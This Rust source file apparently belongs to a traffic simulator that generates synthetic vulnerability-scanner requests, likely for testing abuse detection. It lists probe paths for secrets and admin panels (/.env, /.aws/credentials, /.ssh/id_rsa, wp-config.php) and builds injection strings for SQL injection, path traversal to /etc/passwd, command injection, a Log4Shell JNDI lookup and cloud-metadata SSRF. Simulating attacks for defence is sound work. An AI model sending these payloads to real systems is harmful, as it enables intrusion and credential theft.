//! Scanners: lists of places where something forgotten or broken might lie.

use super::actor::{Call, Client, Family, Pace, Stage};
use super::dice::Dice;
use super::route::Query;
use super::site::{Span, Style};
use super::words::NOUNS;
use super::words::word;
use tidegate_behavior::Method;

/// Sources that look for weaknesses.
pub(super) struct Scanner;

/// What a scanner's list is made of.
#[derive(Clone, Copy, Debug)]
enum List {
    /// Forgotten files and panels.
    Forgotten,
    /// Plain words, as directory lists have them.
    Words,
    /// Attempts to inject into routes that exist.
    Injection,
    /// All of it.
    All,
}

impl Family for Scanner {
    fn name(&self) -> &'static str {
        "scanner"
    }

    fn abusive(&self) -> bool {
        true
    }

    fn volume(&self, dice: &mut Dice, _style: Style) -> f64 {
        dice.spread(0.01, 0.25)
    }

    fn play(&self, stage: &mut Stage<'_>) {
        loop {
            let list = stage.dice.pick(&[
                List::Forgotten,
                List::Forgotten,
                List::Words,
                List::Injection,
                List::All,
            ]);
            let rate = stage.dice.spread(0.03, 60.0);
            let method = stage.dice.pick(&[Method::Get, Method::Get, Method::Get, Method::Head]);
            let mask = stage.disguise();
            let bout = stage.bout(30.0, 2400.0);
            let sources = 1 + stage.dice.zipf(12, 1.2);
            let hosted = stage.dice.between(0.2, 1.0);
            let looks = stage.dice.chance(0.3);
            let words = Wordlist::draw(&mut stage.dice);
            for n in 0..sources {
                let most = stage.part(sources - n, 15);
                let client = stage.source(hosted, &mask);
                let mut pace = Pace::draw(&mut stage.dice, rate);
                let mut span = bout;
                if looks {
                    let route = stage.site.readable(&mut stage.dice);
                    let path = stage.popular(route);
                    stage.ask(&client, span.from, route, path, Default::default());
                    span.from += stage.dice.pause(5.0);
                }
                scan(stage, &client, (list, method, &words), span, &mut pace, most);
            }
            if !stage.goes_on() || stage.dice.chance(0.3) {
                break;
            }
        }
    }
}

fn scan(
    stage: &mut Stage<'_>,
    client: &Client,
    (list, method, words): (List, Method, &Wordlist),
    span: Span,
    pace: &mut Pace,
    most: usize,
) {
    let site = stage.site;
    let found = stage.dice.spread(0.001, 0.05);
    let mut at = span.from;
    while at < span.to && stage.sent < most {
        let list = match (list, stage.dice.below(3)) {
            (List::All, 0) => List::Forgotten,
            (List::All, 1) => List::Words,
            (List::All, _) => List::Injection,
            (list, _) => list,
        };
        let dice = &mut stage.dice;
        let (path, outcome) = match list {
            List::Injection => {
                let route = site.readable(dice);
                let item = site.routes[route].popular(dice);
                let path = site.routes[route].path(item, &Query::Extra(injection(dice)));
                let status = dice.pick(&[400, 400, 403, 500, 422]);
                let outcome = match dice.below(4) {
                    0 | 1 => site.plain(dice, at, status, 300.0),
                    2 => site.miss(dice, at, Some(route)),
                    _ => site.serve(dice, at, route, false),
                };
                (path, outcome)
            }
            list => {
                let path = if matches!(list, List::Words) {
                    words.plain(dice)
                } else {
                    words.forgotten(dice)
                };
                let outcome = if dice.chance(found) {
                    let status = dice.pick(&[200, 200, 403, 301, 401]);
                    site.plain(dice, at, status, 900.0)
                } else {
                    site.miss(dice, at, None)
                };
                (path, outcome)
            }
        };
        stage.send(client, at, Call { method, ..Call::get(path) }, outcome);
        at += pace.next(&mut stage.dice);
    }
}

/// The pieces that one scanner builds its list from; every scanner favours some.
#[derive(Clone, Debug)]
struct Wordlist {
    prefix: Vec<String>,
    technology: usize,
    extension: Vec<&'static str>,
}

impl Wordlist {
    fn draw(dice: &mut Dice) -> Self {
        let extension = (0..dice.count(1, 6))
            .map(|_| {
                dice.pick(&[
                    ".php", ".bak", ".zip", ".sql", ".tar.gz", ".old", ".txt", ".asp", ".aspx",
                    ".jsp", ".cgi", ".json", ".yml", ".xml", ".log", ".conf", ".ini", ".rar",
                    ".7z", ".swp", "~", ".php.bak", ".inc", ".env", ".cfg", ".db", ".sqlite", "",
                ])
            })
            .collect();
        let prefix = (0..dice.count(1, 5))
            .map(|_| {
                if dice.chance(0.5) {
                    String::new()
                } else {
                    format!("/{}", super::words::noun(dice))
                }
            })
            .collect();
        Self { prefix, technology: dice.below(5), extension }
    }

    fn forgotten(&self, dice: &mut Dice) -> String {
        const PIECES: &[&str] = &[
            "admin",
            "administrator",
            "backup",
            "old",
            "new",
            "test",
            "dev",
            "staging",
            "config",
            "conf",
            "db",
            "database",
            "dump",
            "data",
            "private",
            "secret",
            "tmp",
            "temp",
            "cache",
            "logs",
            "log",
            "console",
            "manager",
            "panel",
            "cpanel",
            "shell",
            "cmd",
            "upload",
            "uploads",
            "install",
            "setup",
            "phpinfo",
            "info",
            "server-status",
            "debug",
            "web",
            "www",
            "site",
            "root",
            "user",
            "passwd",
            "password",
            "credentials",
            "keys",
            "id_rsa",
            "export",
            "readme",
            "license",
            "api",
            "swagger",
            "cgi-bin",
            "bin",
            "include",
            "lib",
            "vendor",
            "storage",
            "system",
            "index",
            "main",
        ];
        const FOREIGN: [&[&str]; 5] = [
            &[
                "/wp-admin/",
                "/wp-login.php",
                "/xmlrpc.php",
                "/wp-includes/wlwmanifest.xml",
                "/wp-content/plugins/",
                "/wp-config.php",
            ],
            &[
                "/.env",
                "/.git/config",
                "/.git/HEAD",
                "/.svn/entries",
                "/.aws/credentials",
                "/.DS_Store",
                "/.htpasswd",
                "/.vscode/sftp.json",
                "/.ssh/id_rsa",
            ],
            &[
                "/phpmyadmin/index.php",
                "/pma/",
                "/adminer.php",
                "/mysql/admin/",
                "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                "/phpinfo.php",
            ],
            &[
                "/actuator/env",
                "/actuator/heapdump",
                "/solr/admin/info/system",
                "/manager/html",
                "/jenkins/script",
                "/struts/webconsole.html",
                "/console/login/LoginForm.jsp",
            ],
            &[
                "/HNAP1/",
                "/boaform/admin/formLogin",
                "/cgi-bin/luci",
                "/goform/set",
                "/GponForm/diag_Form",
                "/owa/auth/logon.aspx",
                "/remote/fgt_lang",
                "/_ignition/execute-solution",
            ],
        ];
        let prefix = dice.pick(&self.prefix);
        let piece = dice.pick(PIECES);
        let extension = dice.pick(&self.extension);
        match dice.below(10) {
            0..=2 => {
                let group =
                    if dice.chance(0.6) { self.technology } else { dice.below(FOREIGN.len()) };
                format!("{prefix}{}", dice.pick(FOREIGN[group]))
            }
            3 => format!("{prefix}/.{piece}{extension}"),
            4 => format!("{prefix}/{piece}/{}{extension}", dice.pick(PIECES)),
            5 => format!(
                "{prefix}/{piece}{}{}{extension}",
                dice.pick(&["-", "_", "", "."]),
                dice.count(1, 2026)
            ),
            6 => format!(
                "{prefix}/{piece}{}{}{extension}",
                dice.pick(&["-", "_", ""]),
                dice.pick(PIECES)
            ),
            7 => format!("{prefix}/{}{extension}", word(dice)),
            _ => format!("{prefix}/{piece}{extension}"),
        }
    }

    fn plain(&self, dice: &mut Dice) -> String {
        let name = if dice.chance(0.7) { dice.pick(NOUNS).to_owned() } else { word(dice) };
        let depth = if dice.chance(0.3) { dice.pick(&self.prefix) } else { String::new() };
        format!("{depth}/{name}{}", dice.pick(&["", "", "/", "s", "-old", "2", "_new"]))
    }
}

fn injection(dice: &mut Dice) -> String {
    let name = dice.pick(&["id", "q", "file", "page", "url", "lang", "dir", "cmd", "name"]);
    let number = dice.below(9999);
    match dice.below(9) {
        0 => format!("{name}={number}'%20OR%20{number}={number}--%20"),
        1 => format!("{name}=-{number}+UNION+SELECT+NULL,{number},version()"),
        2 => format!("{name}={}etc/passwd", "../".repeat(dice.count(2, 9))),
        3 => format!("{name}=..%2f..%2f..%2fwindows%2fwin.ini"),
        4 => format!("{name}=%3Cscript%3Ealert({number})%3C/script%3E"),
        5 => format!("{name}=;cat%20/etc/hosts"),
        6 => format!("{name}=${{jndi:ldap://{}.com/{number}}}", word(dice)),
        7 => format!("{name}={{{{{number}*7}}}}"),
        _ => format!("{name}=http://169.254.169.254/latest/meta-data/{}", word(dice)),
    }
}
